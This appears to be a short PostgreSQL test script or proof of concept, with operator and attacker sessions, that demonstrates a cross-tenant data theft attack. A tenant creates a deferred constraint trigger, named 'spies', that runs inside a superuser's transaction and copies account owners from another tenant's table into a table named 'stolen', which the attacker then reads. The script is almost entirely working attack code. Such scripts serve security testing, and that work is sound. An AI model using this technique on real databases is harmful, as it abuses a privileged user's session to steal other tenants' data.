-- A deferred trigger runs when the superuser's transaction ends.
CREATE TABLE stolen (what text);
CREATE FUNCTION spies() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_alpha.stolen SELECT owner FROM tenant_beta.accounts; RETURN NULL; END $$;
CREATE CONSTRAINT TRIGGER spies AFTER UPDATE ON accounts DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION spies();
-- @session operator
BEGIN;
UPDATE tenant_alpha.accounts SET balance = 0 WHERE id = 1;
COMMIT;
-- @session attacker
SELECT DISTINCT what FROM stolen;
